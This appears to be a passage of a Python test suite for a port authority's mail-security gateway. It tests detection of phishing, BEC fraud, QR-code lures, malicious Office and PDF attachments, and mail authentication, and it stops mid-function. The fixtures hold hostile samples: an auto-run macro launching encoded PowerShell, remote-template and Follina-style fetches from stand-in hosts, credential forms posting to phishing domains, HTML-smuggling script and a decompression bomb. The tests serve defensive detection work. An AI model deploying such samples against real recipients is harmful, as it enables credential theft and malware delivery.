"""Each analyser on small messages it must catch, and on ones it must leave alone."""

from __future__ import annotations

import io
import time
import zipfile

from tests.mail.vba import compound_file, macro_document

from portguard.mail import alerts, pdf
from portguard.mail.analysers import attachments, auth, impersonation, links
from portguard.mail.analysers.base import AnalysisContext, Envelope, lookalike_of, skeleton
from portguard.mail.parse import parse_message
from portguard.mail.portmail import pdf_document, pdf_file
from portguard.mail.resolver import StaticResolver
from portguard.mail.schemas import Reason
from portguard.mail.testing import message

CTX = AnalysisContext(
    protected_domains=frozenset({"portofantwerpbruges.com", "portofantwerp.com"}),
    vips=frozenset({"jacques vandermeiren"}),
    trusted_authserv_ids=frozenset({"mx.portofantwerpbruges.com"}),
)


def names(reasons: list) -> set[str]:  # type: ignore[type-arg]
    return {r.name for r in reasons}


def test_lookalike_domains() -> None:
    assert skeleton("p0rtofantwerp") == skeleton("portofantwerp")
    for dom, how in [
        ("portofantwerpbruges.net", "suffix"),
        ("p0rtofantwerpbruges.com", "homoglyphs"),
        ("portofantwerpbrugess.com", "changed"),
        ("portofantwerpbruges-login.com", "added"),
        ("xn--portofantwerpbrges-4ec.com", ""),
    ]:
        hit = lookalike_of(dom, CTX)
        assert hit is not None, dom
        assert hit[0] == "portofantwerpbruges.com"
        assert how in hit[1]
    assert lookalike_of("portofantwerpbruges.com", CTX) is None
    assert lookalike_of("mail.portofantwerpbruges.com", CTX) is None
    assert lookalike_of("katoennatie.com", CTX) is None


def test_impersonation_and_bec_in_three_languages() -> None:
    raw = message(
        sender="Jacques Vandermeiren <ceo.office@gmail.com>",
        subject="Dringende betaling",
        text="Please process a payment today. Our bank details have changed, new IBAN below.",
        headers={"Reply-To": "pay@gmail.com"},
    )
    got = names(impersonation.analyse(parse_message(raw), Envelope(), CTX))
    assert {"impersonation.vip", "bec.urgent_payment", "bec.bank_change"} <= got
    nl = message(text="Kan je mij de vrijgavecode van de containers sturen? Strikt vertrouwelijk.")
    assert "bec.release_pin" in names(impersonation.analyse(parse_message(nl), Envelope(), CTX))
    fr = message(text="Merci de noter nos nouvelles coordonnées bancaires, virement urgent.")
    got = names(impersonation.analyse(parse_message(fr), Envelope(), CTX))
    assert {"bec.bank_change", "bec.urgent_payment"} <= got
    # The same from a mailer that sends Latin-1 bytes and declares no charset.
    fr8 = fr.replace(b'charset="utf-8"', b'charset="us-ascii"').replace(
        "coordonnées".encode(), "coordonnées".encode("latin-1")
    )
    assert b"coordonn\xe9es" in fr8
    got = names(impersonation.analyse(parse_message(fr8), Envelope(), CTX))
    assert {"bec.bank_change", "bec.urgent_payment"} <= got
    spoof = message(sender="Port of Antwerp-Bruges <it@portofantwerpbruges-support.com>")
    got = names(impersonation.analyse(parse_message(spoof), Envelope(), CTX))
    assert "impersonation.lookalike_from" in got
    clean = message()
    assert impersonation.analyse(parse_message(clean), Envelope(), CTX) == []


def test_links() -> None:
    html = (
        '<a href="http://198.51.100.7/login">https://www.portofantwerpbruges.com</a>'
        '<a href="https://bit.ly/x">here</a>'
        '<form action="https://evil.example/p"><input type="password"></form>'
    )
    raw = message(html=html)
    ctx = AnalysisContext(
        protected_domains=CTX.protected_domains, blocklist=frozenset({"198.51.100.7"})
    )
    got = names(links.analyse(parse_message(raw), Envelope(), ctx))
    assert {
        "links.text_mismatch",
        "links.ip_url",
        "links.shortener",
        "links.html_form",
        "intel.blocklist_ip",
    } <= got
    lookalike = message(text="Log in at https://portofantwerpbruges.secure-login.com/owa")
    got = names(links.analyse(parse_message(lookalike), Envelope(), CTX))
    assert "links.lookalike_host" in got


def test_image_map_and_frame_targets_are_links() -> None:
    """The button is a picture whose click goes through an image map (``<area href>``), and the
    page is loaded in a frame: no ``<a>`` anywhere, yet both addresses meet the intel."""
    html = (
        '<p>Your mailbox is full.</p><img src="cid:btn" usemap="#m"><map name="m">'
        '<area shape="rect" coords="0,0,200,40" href="https://mailbox-upgrade.example/owa">'
        '</map><iframe src="http://tracker.example/frame"></iframe>'
    )
    msg = parse_message(message(text="Your mailbox is full.", html=html))
    assert [link.url for link in msg.links] == [
        "https://mailbox-upgrade.example/owa",
        "http://tracker.example/frame",
    ]
    for host in ("mailbox-upgrade.example", "tracker.example"):
        ctx = AnalysisContext(protected_domains=CTX.protected_domains, blocklist=frozenset({host}))
        hits = [r for r in links.analyse(msg, Envelope(), ctx) if r.name.startswith("intel.")]
        assert [r.detail for r in hits] == [f"{host} is on the local blocklist"]


def _qr_png(text: str) -> bytes:
    import numpy as np
    import zxingcpp
    from PIL import Image

    code = zxingcpp.create_barcode(text, zxingcpp.BarcodeFormat.QRCode)
    img = Image.fromarray(np.array(code.to_image(scale=6)))
    buf = io.BytesIO()
    img.save(buf, "PNG")
    return buf.getvalue()


def test_qr_code_in_an_image_is_a_link_like_any_other() -> None:
    """Quishing: the phishing URL is only in a QR code in a picture. It is decoded, named in a
    reason, and checked like a link in the text (here against the blocklist)."""
    url = "https://portofantwerpbruges-login.example/verify"
    raw = message(
        text="Scan the code with your phone to keep access to your mailbox.",
        attachments=[("scan.png", _qr_png(url), "image/png")],
    )
    ctx = AnalysisContext(
        protected_domains=CTX.protected_domains,
        blocklist=frozenset({"portofantwerpbruges-login.example"}),
    )
    reasons = links.analyse(parse_message(raw), Envelope(), ctx)
    qr = [r for r in reasons if r.name == "links.qr_code"]
    assert qr and url in qr[0].detail
    assert "intel.blocklist_domain" in names(reasons)
    # A picture without a code, and bytes that are no image, are simply nothing.
    plain = message(attachments=[("logo.png", _qr_png("x")[:60], "image/png")])
    assert "links.qr_code" not in names(links.analyse(parse_message(plain), Envelope(), CTX))
    assert links.decode_qr(b"\x89PNG not really") == []


def _pdf(
    *,
    link: str | None = None,
    qr: str | None = None,
    password: str | None = None,
    owner: bool = False,
) -> bytes:
    """A one-page PDF made as a lure is: a picture (a QR code, or a blank), a link annotation
    over it, and perhaps a password."""
    from PIL import Image
    from pypdf import PdfReader, PdfWriter
    from pypdf.annotations import Link

    img = Image.open(io.BytesIO(_qr_png(qr))) if qr else Image.new("RGB", (200, 100), "white")
    buf = io.BytesIO()
    img.convert("RGB").save(buf, "PDF")
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(buf.getvalue())))
    if link:
        writer.add_annotation(0, Link(rect=(10, 10, 190, 90), url=link))
    if password is not None:
        # ``owner``: locked against editing only; anyone (and any scanner) can open it.
        writer.encrypt("" if owner else password, owner_password=password, algorithm="AES-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def test_a_pdf_lures_link_is_checked_like_a_link_in_the_mail() -> None:
    """The lure's URL is only in the PDF's link annotation. It is a link of the message (first
    in line, so a body padded with links cannot push it out), its reasons say where it was, and
    it is checked against the blocklist."""
    padding = " ".join(f"https://news.example.org/item/{i}" for i in range(300))
    raw = message(
        text="Your invoice is attached. " + padding,
        attachments=[("invoice.pdf", _pdf(link="https://bit.ly/3lure"), "application/pdf")],
    )
    msg = parse_message(raw)
    assert msg.links[0].url == "https://bit.ly/3lure" and msg.links[0].where == "invoice.pdf"
    ctx = AnalysisContext(protected_domains=CTX.protected_domains, blocklist=frozenset({"bit.ly"}))
    reasons = links.analyse(msg, Envelope(), ctx)
    short = [r for r in reasons if r.name == "links.shortener"]
    assert short and "(in invoice.pdf)" in short[0].detail
    assert "intel.blocklist_domain" in names(reasons)
    # An alert on it carries the URL, so incidents correlate on it.
    assert "https://bit.ly/3lure" in {e.value for e in alerts.entities(msg, [])}
    # Hosted static sites are where such buttons go.
    hosted = message(
        attachments=[
            ("doc.pdf", _pdf(link="https://xkqz.z13.web.core.windows.net/"), "application/pdf")
        ]
    )
    assert "links.hosted_page" in names(links.analyse(parse_message(hosted), Envelope(), CTX))


def test_a_qr_code_in_a_pdf_is_read() -> None:
    url = "https://portofantwerpbruges-login.example/mfa"
    raw = message(
        text="Scan the code in the attached notice to renew your access badge.",
        attachments=[("notice.pdf", _pdf(qr=url), "application/pdf")],
    )
    qr = [
        r for r in links.analyse(parse_message(raw), Envelope(), CTX) if r.name == "links.qr_code"
    ]
    assert qr and url in qr[0].detail and "(in notice.pdf)" in qr[0].detail
    assert "links.qr_code" not in names(
        links.analyse(
            parse_message(message(attachments=[("a.pdf", _pdf(), "application/pdf")])),
            Envelope(),
            CTX,
        )
    )


def _vector_qr_pdf(text: str, *, one_fill: bool, tail: str = "") -> bytes:
    """A PDF that draws a QR code as vector squares (``re``), as PDF libraries draw codes: a
    white page, then the dark modules, each filled apart or all in one ``f``."""
    import numpy as np
    import zxingcpp

    code = np.array(zxingcpp.create_barcode(text, zxingcpp.BarcodeFormat.QRCode).to_image(scale=1))
    n = code.shape[0]
    squares = [
        f"{c} {n - 1 - r} 1 1 re" + ("" if one_fill else " f")
        for r in range(n)
        for c in range(n)
        if code[r, c] < 128
    ]
    ops = ["1 g 0 0 595 842 re f", "q 3 0 0 3 220 520 cm 0 0 0 rg", *squares]
    content = "\n".join([*ops, "f" if one_fill else "", "Q", tail]).encode()
    return pdf_file(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>",
            b"<</Length %d>>stream\n" % len(content) + content + b"\nendstream",
        ]
    )


def _scan_notice(data: bytes) -> tuple[pdf.PdfFacts | None, list[Reason]]:
    """A mail asking to scan the code in the attached PDF ``data``: the PDF's facts, and the
    QR-code findings."""
    raw = message(
        text="Your access badge expires today. Scan the code in the attached notice.",
        attachments=[("notice.pdf", data, "application/pdf")],
    )
    msg = parse_message(raw)
    qr = [r for r in links.analyse(msg, Envelope(), CTX) if r.name == "links.qr_code"]
    return msg.attachments[0].pdf, qr


def test_a_qr_code_drawn_as_vector_squares_in_a_pdf_is_read() -> None:
    """No picture at all: the code is drawn with filled squares. The page's paths are drawn
    and decoded; a text-only PDF is not drawn."""
    url = "https://portofantwerpbruges-login.example/badge"
    for one_fill in (True, False):
        facts, qr = _scan_notice(_vector_qr_pdf(url, one_fill=one_fill))
        assert facts is not None and facts.drawings == 1
        assert qr and url in qr[0].detail, one_fill
    text_only = pdf.inspect(pdf_document(["Invoice 1"] * 30, "https://www.katoennatie.com/"))
    assert text_only.drawings == 0 and text_only.pictures == 0


def test_a_stream_of_numbers_without_operators_costs_no_time() -> None:
    """The drawing's operators and their numbers were found with one pattern, which tried every
    number as the start of a run to the end: 20,000 numbers with no operator after them took
    20 s, and the 512 KB a page may hold about an hour, in a scan thread the gateway can only
    abandon. Operands are now read back from each operator."""
    url = "https://portofantwerpbruges-login.example/badge"
    t0 = time.perf_counter()
    facts, qr = _scan_notice(_vector_qr_pdf(url, one_fill=False, tail="1 " * 30_000))
    assert facts is not None and facts.drawings == 1
    assert qr and url in qr[0].detail
    assert time.perf_counter() - t0 < 5  # about 0.3 s; the single pattern, about 45 s


def _form_qr_pdf(text: str, *, vector: bool) -> bytes:
    """A page that places a form (a reusable drawing, as PDF generators wrap a page's
    content), the QR code inside the form: a picture, or vector squares."""
    import numpy as np
    import zxingcpp

    code = np.array(zxingcpp.create_barcode(text, zxingcpp.BarcodeFormat.QRCode).to_image(scale=4))
    n = code.shape[0]
    if vector:
        small = code[::4, ::4]
        m = small.shape[0]
        squares = " ".join(
            f"{c} {m - 1 - r} 1 1 re" for r in range(m) for c in range(m) if small[r, c] < 128
        )
        form_content = f"q 0 g {squares} f Q".encode()
        form = (
            b"<</Type/XObject/Subtype/Form/BBox[0 0 %d %d]/Length %d>>stream\n"
            % (m, m, len(form_content))
            + form_content
            + b"\nendstream"
        )
        place = b"q 6 0 0 6 200 500 cm /Fm0 Do Q"
        extra: list[bytes] = []
    else:
        pixels = bytes(code.astype("uint8").tobytes())
        form_content = b"q %d 0 0 %d 0 0 cm /Im0 Do Q" % (n, n)
        form = (
            b"<</Type/XObject/Subtype/Form/BBox[0 0 %d %d]/Resources<</XObject<</Im0 6 0 R>>>>"
            b"/Length %d>>stream\n" % (n, n, len(form_content)) + form_content + b"\nendstream"
        )
        place = b"q 1 0 0 1 100 400 cm /Fm0 Do Q"
        extra = [
            b"<</Type/XObject/Subtype/Image/Width %d/Height %d/ColorSpace/DeviceGray"
            b"/BitsPerComponent 8/Length %d>>stream\n"
            % (n, n, len(pixels))
            + pixels
            + b"\nendstream"
        ]
    return pdf_file(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R"
            b"/Resources<</XObject<</Fm0 5 0 R>>>>>>",
            b"<</Length %d>>stream\n" % len(place) + place + b"\nendstream",
            form,
            *extra,
        ]
    )


def test_a_qr_code_inside_a_pdf_form_is_read() -> None:
    """PDF generators often wrap a page's content in a form (an XObject the page places):
    a QR code there, as a picture or as vector squares, is on the page all the same."""
    url = "https://portofantwerpbruges-login.example/form"
    for vector in (False, True):
        facts, qr = _scan_notice(_form_qr_pdf(url, vector=vector))
        assert facts is not None and (facts.pictures, facts.drawings) == (
            (0, 1) if vector else (1, 0)
        )
        assert qr and url in qr[0].detail, vector
    # A form that places itself (a loop a hostile file can build) is looked into a few levels
    # deep, then left.
    looping = pdf_file(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R"
            b"/Resources<</XObject<</Fm0 5 0 R>>>>>>",
            b"<</Length 7>>stream\n/Fm0 Do\nendstream",
            b"<</Type/XObject/Subtype/Form/BBox[0 0 10 10]"
            b"/Resources<</XObject<</Fm0 5 0 R/Fm1 5 0 R>>>>/Length 7>>stream\n/Fm0 Do\nendstream",
        ]
    )
    assert pdf.inspect(looping) == pdf.PdfFacts(pages=1) and list(pdf.images(looping)) == []


def _docx(relationships: list[tuple[str, str]]) -> bytes:
    """A Word package whose document has the given external ``(type, target)`` relationships."""
    rels = "".join(
        f'<Relationship Id="rId{n}" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'relationships/{kind}" Target="{target}" TargetMode="External"/>'
        for n, (kind, target) in enumerate(relationships, 10)
    )
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
            'content-types"><Override PartName="/word/document.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
        )
        z.writestr("word/document.xml", "<w:document/>")
        z.writestr(
            "word/_rels/document.xml.rels",
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
            f'2006/relationships">{rels}</Relationships>',
        )
    return buf.getvalue()


def test_office_documents_links_and_what_they_fetch_when_opened() -> None:
    """A Word lure's hyperlink is a link of the message; a template fetched from the web (remote
    template injection) and an external OLE object over MHTML (Follina) are malware; a template
    on the author's own disk, as every Word file made from a template names, is nothing."""
    lure = message(
        attachments=[
            ("invoice.docx", _docx([("hyperlink", "https://bit.ly/3word")]), "application/msword")
        ]
    )
    msg = parse_message(lure)
    assert msg.links[0].url == "https://bit.ly/3word" and msg.links[0].where == "invoice.docx"
    assert "links.shortener" in names(links.analyse(msg, Envelope(), CTX))
    assert not attachments.analyse(msg, Envelope(), CTX)

    def found(relationships: list[tuple[str, str]]) -> dict[str, str]:
        raw = message(attachments=[("memo.docx", _docx(relationships), "application/msword")])
        got = attachments.analyse(parse_message(raw), Envelope(), CTX)
        return {r.name: r.detail for r in got}

    template = found([("attachedTemplate", "https://cdn.evil.example/t.dotm")])
    assert "https://cdn.evil.example/t.dotm" in template["attachments.remote_template"]
    smb = found([("attachedTemplate", "\\\\203.0.113.9\\share\\t.dotm")])
    assert "attachments.remote_template" in smb
    follina = found([("oleObject", "mhtml:https://x.example/a.html!x-usc:https://x.example/a")])
    assert "attachments.remote_object" in follina
    assert found([("attachedTemplate", "file:///C:/Users/jan/Templates/Normal.dotm")]) == {}


def test_an_attached_pages_addresses_are_links_of_the_message() -> None:
    """A credential page (or an SVG "picture" with a script) posts to or opens the phishing
    site: those addresses, entity-encoded ones too, are checked and named like any link."""
    page = (
        b"<html><body><form action='https://xls-login.000webhostapp.com/Excel.php' method=post>"
        b"<input type=password name=pw></form>"
        b"<a href='&#104;ttps://bit.ly/3page'>help</a></body></html>"
    )
    svg = (
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>'
        b'window.location = "https://evil-redirect.example/r?u=1";</script></svg>'
    )
    raw = message(
        attachments=[
            ("PO45638.Xls.htm", page, "application/octet-stream"),
            ("fax.svg", svg, "image/svg+xml"),
        ]
    )
    msg = parse_message(raw)
    found = {lk.url: lk.where for lk in msg.links}
    assert found["https://xls-login.000webhostapp.com/Excel.php"] == "PO45638.Xls.htm"
    assert found["https://bit.ly/3page"] == "PO45638.Xls.htm"
    assert found["https://evil-redirect.example/r?u=1"] == "fax.svg"
    ctx = AnalysisContext(
        protected_domains=CTX.protected_domains, blocklist=frozenset({"evil-redirect.example"})
    )
    got = {r.name: r.detail for r in links.analyse(msg, Envelope(), ctx)}
    assert "(in PO45638.Xls.htm)" in got["links.hosted_page"]
    assert "intel.blocklist_domain" in got


def test_a_saved_mht_page_is_read_through_its_mime_wrapping() -> None:
    """A page saved as ``.mht`` is MIME around HTML, quoted-printable: ``type=3D"password"``,
    and long addresses cut by soft line breaks. It is unwrapped first, so its form is a
    credential page and the address it posts to is whole."""
    post = "https://owa-verify.example/" + "a" * 80 + "/post.php?u=1"
    html_part = (
        f'<html><body><form action=3D"{post[:60]}=\r\n{post[60:]}">'
        '<input type=3D"password" name=3D"p"></form></body></html>'
    ).replace("u=1", "u=3D1")
    mht = (
        "From: <Saved by Blink>\r\nSubject: Sign in\r\nMIME-Version: 1.0\r\n"
        'Content-Type: multipart/related; type="text/html"; boundary="----B"\r\n\r\n'
        "------B\r\nContent-Type: text/html\r\nContent-Transfer-Encoding: quoted-printable\r\n"
        f"Content-Location: https://owa-verify.example/\r\n\r\n{html_part}\r\n------B--\r\n"
    ).encode()
    msg = parse_message(message(attachments=[("Statement.mht", mht, "application/octet-stream")]))
    assert post in {lk.url for lk in msg.links}
    cred = {r.name: r for r in attachments.analyse(msg, Envelope(), CTX)}
    assert cred["attachments.credential_page"].score == 6.0


def test_invoice_fraud_written_in_the_attached_pdf() -> None:
    """The mail says only "see the attached letter"; the letter announces the new bank details.
    The BEC wording is found in the PDF's text and the reason says so. An ordinary invoice PDF
    (IBAN printed, nothing changed) is not BEC."""
    letter = pdf_document(
        ["Dear customer,", "Please note that our bank details have changed.", "New IBAN below."],
        "https://www.katoennatie.com/",
    )
    raw = message(
        text="Good morning, please find our letter attached. Kind regards, Accounts",
        attachments=[("letter.pdf", letter, "application/pdf")],
    )
    got = {r.name: r.detail for r in impersonation.analyse(parse_message(raw), Envelope(), CTX)}
    assert "(in letter.pdf)" in got["bec.bank_change"]
    invoice = pdf_document(
        ["Invoice INV-2231", "Terminal handling, 4 x 40HC", "IBAN BE68 5390 0754 7034"],
        "https://www.katoennatie.com/",
    )
    plain = message(attachments=[("INV-2231.pdf", invoice, "application/pdf")])
    assert not impersonation.analyse(parse_message(plain), Envelope(), CTX)


def test_office_macros_are_found_and_auto_run_ones_weigh_more() -> None:
    """A Word 97-2003 document and a .docm package carrying a VBA project (written from the
    specifications, tests/mail/vba.py): a macro that runs on opening is near-certain malware,
    another one suspicious; the same document without a project is nothing."""
    dropper = macro_document(
        'Sub AutoOpen()\r\n    Shell "powershell -enc SQBFAFgA"\r\nEnd Sub\r\n'
    )
    tool = macro_document("Function Total(a, b)\r\n    Total = a + b\r\nEnd Function\r\n")

    def found(name: str, data: bytes) -> dict[str, Reason]:
        raw = message(attachments=[(name, data, "application/msword")])
        return {r.name: r for r in attachments.analyse(parse_message(raw), Envelope(), CTX)}

    auto = found("invoice.doc", dropper)["attachments.office_macro"]
    assert auto.score == 8.0 and "run on open" in auto.detail and auto.kind == "malware"
    assert found("sums.doc", tool)["attachments.office_macro"].score == 5.0
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("word/document.xml", "<w:document/>")
        z.writestr("word/vbaProject.bin", dropper)
    assert found("order.docm", buf.getvalue())["attachments.office_macro"].score == 8.0
    plain = compound_file("Data", {"x": b"nothing here"}, {"y": b"or here"})
    assert "attachments.office_macro" not in found("old.doc", plain)


def test_a_zipped_login_page_is_judged_as_the_page() -> None:
    """Zipping the page hides it only from a glance: its form is a credential page, and where
    it posts (and the links of a zipped PDF) are links of the message."""
    page = (
        b"<html><form action='https://owa-verify.example/post.php'>"
        b"<input type=password name=p></form></html>"
    )
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("Remittance/view.html", page)
        z.writestr("Remittance/terms.pdf", _pdf(link="https://bit.ly/3zipped"))
    # The zip stores the PDF as is, so "%PDF-" is in its first kilobyte: still a zip.
    assert not pdf.is_pdf(buf.getvalue()) and pdf.is_pdf(b"junk before the header\n" + _pdf())
    raw = message(attachments=[("Remittance.zip", buf.getvalue(), "application/zip")])
    msg = parse_message(raw)
    found = {lk.url: lk.where for lk in msg.links}
    assert found["https://owa-verify.example/post.php"] == "Remittance.zip"
    assert found["https://bit.ly/3zipped"] == "Remittance.zip"
    got = {r.name: r for r in attachments.analyse(msg, Envelope(), CTX)}
    cred = got["attachments.credential_page"]
    assert cred.score == 6.0 and "Remittance.zip/Remittance/view.html" in cred.detail


def test_password_protected_pdf() -> None:
    """Locked with a password given in the mail's text: nothing inside can be scanned. A PDF
    locked only against editing opens for anyone and is read as usual."""
    locked = message(
        text="The statement is attached, password 4711.",
        attachments=[
            ("statement.pdf", _pdf(link="https://x.example/", password="4711"), "application/pdf")
        ],
    )
    msg = parse_message(locked)
    got = attachments.analyse(msg, Envelope(), CTX)
    assert "attachments.encrypted_pdf" in names(got)
    assert not msg.links or all(not lk.where for lk in msg.links)
    owner_only = message(
        attachments=[
            (
                "b.pdf",
                _pdf(link="https://bit.ly/owner", password="x", owner=True),
                "application/pdf",
            )
        ]
    )
    msg = parse_message(owner_only)
    assert "attachments.encrypted_pdf" not in names(attachments.analyse(msg, Envelope(), CTX))
    assert msg.links[0].url == "https://bit.ly/owner"


def test_a_decompression_bomb_in_a_pdf_picture_is_not_decoded() -> None:
    """A 100 x 100 picture whose data inflates to 400 MB: pypdf stops at its output limit, the
    picture is skipped, and the message still gets its verdict."""
    import zlib

    from PIL import Image
    from pypdf import PdfReader, PdfWriter
    from pypdf.generic import NameObject

    buf = io.BytesIO()
    Image.new("RGB", (100, 100), "white").save(buf, "PDF")
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(buf.getvalue())))
    z = zlib.compressobj(9)
    bomb = b"".join(z.compress(bytes(1 << 20)) for _ in range(400)) + z.flush()
    for ref in writer.pages[0]["/Resources"]["/XObject"].values():
        xobj = ref.get_object()
        xobj._data = bomb  # the raw (already compressed) stream, as a hostile writer would
        xobj[NameObject("/Filter")] = NameObject("/FlateDecode")
    out = io.BytesIO()
    writer.write(out)
    assert list(pdf.images(out.getvalue())) == []
    raw = message(attachments=[("scan.pdf", out.getvalue(), "application/pdf")])
    msg = parse_message(raw)
    assert msg.attachments[0].pdf is not None and not msg.attachments[0].pdf.error
    assert not links.analyse(msg, Envelope(), CTX)


def test_a_broken_pdf_is_noted_not_fatal() -> None:
    raw = message(
        attachments=[("x.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 40, "application/pdf")]
    )
    msg = parse_message(raw)
    assert msg.attachments[0].pdf is not None and msg.attachments[0].pdf.error
    assert not links.analyse(msg, Envelope(), CTX)
    said = [
        r
        for r in attachments.analyse(msg, Envelope(), CTX)
        if r.name == "attachments.pdf_unreadable"
    ]
    assert said and "x.pdf" in said[0].detail and said[0].kind == "malware"


def test_generated_port_mail_pdfs_are_real_pdfs() -> None:
    """The generator's invoices must be what the gateway meets in real mail: PDFs that open,
    with a link to the sender's site, and nothing flagged on them."""
    from portguard.mail.portmail import generate

    seen = 0
    for raw in generate(60, seed=3, part="eval"):
        msg = parse_message(raw)
        for att in msg.attachments:
            assert att.pdf is not None and not att.pdf.error and not att.pdf.encrypted
            assert att.pdf.links and att.pdf.links[0].startswith("https://www.")
            assert not attachments.analyse(msg, Envelope(), CTX)
            seen += 1
    assert seen > 10


class _Index:
    def lookup(self, kind: str, value: str) -> list[object]:
        class M:
            name = "phishing campaign X"
            how = "exact"
            block = True

        return [M()] if (kind, value) == ("domain", "evil.example") else []

    def lookup_hash(self, value: str) -> list[object]:
        return []


def test_indicator_index() -> None:
    ctx = AnalysisContext(indicator_index=_Index())  # type: ignore[arg-type]
    raw = message(text="see https://evil.example/a")
    assert "intel.domain" in names(links.analyse(parse_message(raw), Envelope(), ctx))


def _zip(members: dict[str, bytes], encrypt: bool = False) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    data = buf.getvalue()
    if encrypt:  # set the "encrypted" flag bit on every header (enough for detection)
        data = data.replace(b"PK\x03\x04\x14\x00\x00\x00", b"PK\x03\x04\x14\x00\x01\x00")
        data = data.replace(
            b"PK\x01\x02\x14\x03\x14\x00\x00\x00", b"PK\x01\x02\x14\x03\x14\x00\x01\x00"
        )
    return data


def test_attachments_by_content() -> None:
    exe = b"MZ\x90\x00" + b"\0" * 200
    cases = {
        "attachments.executable": ("invoice.pdf", exe),
        "attachments.archive_executable": ("docs.zip", _zip({"a/invoice.exe": b"x"})),
        "attachments.encrypted_archive": ("secure.zip", _zip({"a.txt": b"x"}, encrypt=True)),
        "attachments.zip_bomb": ("big.zip", _zip({"z.bin": b"\0" * 30_000_000})),
        "attachments.html_smuggling": (
            "scan.html",
            b"<html><script>var b=atob('TVqQ');"
            b"new Blob([b]);a.download='x.iso'</script>base64</html>",
        ),
        "attachments.credential_page": (
            "login.htm",
            b"<html><form><input type=password></form></html>",
        ),
        "attachments.double_extension": ("report.pdf.exe", exe),
    }
    for expect, (name, data) in cases.items():
        raw = message(attachments=[(name, data, "application/octet-stream")])
        got = names(attachments.analyse(parse_message(raw), Envelope(), CTX))
        assert expect in got, (expect, got)
    nested = _zip({"inner.zip": _zip({"run.scr": b"x"})})
    raw = message(attachments=[("n.zip", nested, "application/zip")])
    assert "attachments.archive_executable" in names(
        attachments.analyse(parse_message(raw), Envelope(), CTX)
    )
    plain_pdf = pdf_document(["Invoice INV-2231"], "https://www.katoennatie.com/")
    doc = message(attachments=[("x.pdf", plain_pdf, "application/pdf")])
    assert attachments.analyse(parse_message(doc), Envelope(), CTX) == []


def test_a_page_is_a_page_by_its_name_its_type_or_its_first_bytes() -> None:
    """The parser (links) and the attachment analyser (forms, smuggling) agree on what is a web
    page: an SVG declared only by its type, markup that starts with a form under a neutral
    name, in a message or in a zip."""
    smuggler = (
        b"<svg><script>var b=atob('TVqQ');new Blob([b]);a.download='x.iso'</script>base64</svg>"
    )
    form = b"<form action='https://owa-verify.example/post.php'><input type=password></form>"
    cases = [
        ("image.dat", smuggler, "image/svg+xml", "attachments.html_smuggling"),
        ("scan.dat", form, "application/octet-stream", "attachments.credential_page"),
        ("scans.zip", _zip({"scan.dat": form}), "application/zip", "attachments.credential_page"),
    ]
    for name, data, ctype, expect in cases:
        msg = parse_message(message(attachments=[(name, data, ctype)]))
        assert expect in names(attachments.analyse(msg, Envelope(), CTX)), name
        if expect == "attachments.credential_page" and ctype != "application/zip":
            assert "https://owa-verify.example/post.php" in [link.url for link in msg.links]


def test_a_flood_of_input_tags_is_read_in_linear_time() -> None:
    """``<input\\b[^>]*type=password`` tried every ``<input`` against the rest of the text: a
    body of 27,000 ``<input `` took 12 s, an attached page of 100,000 about 150 s."""
    flood = "<form>" + "<input " * 27_000
    t0 = time.perf_counter()
    body = parse_message(message(html=flood + "<input type='password'>"))
    assert "links.html_form" in names(links.analyse(body, Envelope(), CTX))
    assert [
        r.score for r in links.analyse(body, Envelope(), CTX) if r.name == "links.html_form"
    ] == [4.0]
    page = (flood * 4 + "<input type=password>").encode()
    msg = parse_message(message(attachments=[("login.htm", page, "text/html")]))
    found = [
        r
        for r in attachments.analyse(msg, Envelope(), CTX)
        if r.name == "attachments.credential_page"
    ]
    assert found and found[0].score == 6.0
    assert time.perf_counter() - t0 < 5  # about 0.1 s; the pattern, minutes


def test_trusted_authentication_results_only() -> None:
    ar = "mx.portofantwerpbruges.com; spf=fail smtp.mailfrom=x; dmarc=fail header.from=y"
    raw = message(sender="IT <it@portofantwerpbruges.com>", headers={"Authentication-Results": ar})
    got = names(auth.analyse(parse_message(raw), Envelope(), CTX))
    assert {"auth.dmarc_fail", "auth.spf_fail", "auth.protected_unauthenticated"} <= got
    forged = message(headers={"Authentication-Results": ar.replace("mx.", "evil.")})
    assert auth.analyse(parse_message(forged), Envelope(), CTX) == []
    # A header that names no host is nobody's verdict (it had raised, found by fuzzing).
    anonymous = message(headers={"Authentication-Results": "; spf=pass smtp.mailfrom=x"})
    assert auth.analyse(parse_message(anonymous), Envelope(), CTX) == []
    assert auth.parse_auth_results("  ;dkim=pass") == ("", {"dkim": "pass"})


def test_spf_dkim_dmarc_with_a_resolver() -> None:
    import dkim
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric import rsa

    key = rsa.generate_private_key(public_exponent=65537, key_size=1024)
    pem = key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    )
    pub = key.public_key().public_bytes(
